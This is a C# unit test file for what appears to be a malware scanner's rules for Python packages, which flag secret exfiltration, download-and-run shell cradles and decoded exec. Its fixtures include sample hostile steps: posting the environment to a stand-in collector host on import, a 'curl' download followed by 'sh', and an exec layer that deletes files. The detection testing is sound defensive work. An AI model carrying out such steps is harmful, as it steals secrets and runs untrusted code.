using System.Collections.Immutable;
using Assay.Engine.Artifacts;
using Assay.Engine.Capabilities;
using Assay.Engine.Findings;
using Assay.Engine.Rules;
using Assay.Python.Meaning;

namespace Assay.Tests.Engine.Rules;

/// <summary>What all rules about behaviour have in common, on facts made by hand.</summary>
public sealed class BehaviourRuleTests
{
    [Fact]
    public void The_message_says_what_happens_where_data_goes_and_when()
    {
        Finding finding = Assert.Single(new SendsSecrets().Inspect(Program(Sends())));
        Assert.Equal("Sends the environment to https://collector.example.invalid/x when the package is imported", finding.Message);
        Assert.Equal((Severity.Critical, Confidence.High, CodeContext.Import), (finding.Severity, finding.Confidence, finding.Context));
    }

    [Fact]
    public void Trail_line_target_and_host_stand_as_evidence()
    {
        Finding finding = Assert.Single(new SendsSecrets().Inspect(Program(Sends())));
        Assert.Equal(["demo is imported"], finding.Trail);
        Assert.Equal(["line", "target", "host"], finding.Evidence.Select(static evidence => evidence.Label));
    }

    [Fact]
    public void A_hole_is_shown_as_one()
    {
        Finding finding = Assert.Single(new SendsSecrets().Inspect(Program(Sends() with { Target = $"https://{TextValue.Hole}.example.invalid/x" })));
        Assert.Contains("https://{…}.example.invalid/x", finding.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(finding.Evidence, static evidence => evidence.Text.Contains(TextValue.Hole, StringComparison.Ordinal));
    }

    [Fact]
    public void Of_findings_on_one_line_the_worst_is_kept()
    {
        Fact first = Sends();
        Fact second = first with { Place = MemberPlace.Of("demo/__init__.py", 3, 40), Context = CodeContext.Startup };
        Finding finding = Assert.Single(new SendsSecrets().Inspect(Program(first, second)));
        Assert.Equal(CodeContext.Startup, finding.Context);
    }

    [Fact]
    public void What_only_tests_do_is_low() =>
        Assert.All(new DownloadsAndRuns().Inspect(Program(Runs() with { Context = CodeContext.Test })), static finding => Assert.Equal(Severity.Low, finding.Severity));

    [Fact]
    public void The_innermost_text_is_shown()
    {
        MemberPlace place = MemberPlace.Of("demo/__init__.py", 3);
        DecodedLayer outer = new(place, CodeContext.Import, 0, 0, 1, "exec of base64.b64decode", Labels.Decoded, "exec(inner)");
        DecodedLayer inner = outer with { Parent = 1, Depth = 2, Text = "os.remove('demo')" };
        Subject subject = Program(Runs() with { TargetLabels = Labels.Decoded, ExecutedLayer = 1 }, Runs() with { Layer = 1, ExecutedLayer = 2, TargetLabels = Labels.Decoded });
        subject = subject with { Behaviour = subject.Behaviour with { Layers = [outer, inner] } };
        Finding finding = Assert.Single(new ExecutesDecodedCode().Inspect(subject));
        Assert.Contains(finding.Evidence, static evidence => evidence.IsLayer && evidence.Text.EndsWith("\nos.remove('demo')", StringComparison.Ordinal));
        Assert.Contains("2 times over", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Long_texts_are_cut()
    {
        Finding finding = Assert.Single(new SendsSecrets().Inspect(Program(Sends() with { Line = new string('x', 5_000) })));
        Assert.Equal(301, finding.Evidence.Single(static evidence => evidence.Label == "line").Text.Length);
    }

    [Fact]
    public void Two_commands_of_one_occasion_are_read_as_one_script()
    {
        Fact fetch = Spawns("curl -o /tmp/demo https://files.example.invalid/a", 3);
        Fact start = Spawns("sh /tmp/demo", 4);
        Assert.Equal(4, Assert.IsType<MemberPlace>(Assert.Single(new ShellCradle().Inspect(Program(fetch, start))).Place).Line);
        Assert.Empty(new ShellCradle().Inspect(Program(fetch, start with { Context = CodeContext.Call })));
    }

    private static Fact Sends() => new(
        Capability.Send, "requests.post", CodeContext.Import, MemberPlace.Of("demo/__init__.py", 3, 1), 0, 0, ["demo is imported"], "requests.post(url, json=data)",
        "https://collector.example.invalid/x", Labels.None, Labels.Environment, [], null, 0, false);

    private static Fact Runs() => Sends() with { Capability = Capability.ExecuteCode, Api = "builtins.exec", Target = "", TargetLabels = Labels.Downloaded, DataLabels = Labels.None };

    private static Fact Spawns(string command, int line) => Sends() with
    {
        Capability = Capability.Spawn, Api = "os.system", Target = command, DataLabels = Labels.None, Place = MemberPlace.Of("demo/__init__.py", line),
    };

    private static Subject Program(params ImmutableArray<Fact> facts) => Subjects.Wheel() with
    {
        Behaviour = new BehaviourReading(facts, [], [new PythonModule(MemberPlace.Of("demo/__init__.py"), "demo", CodeContext.Import, [], default, true)]),
    };
}
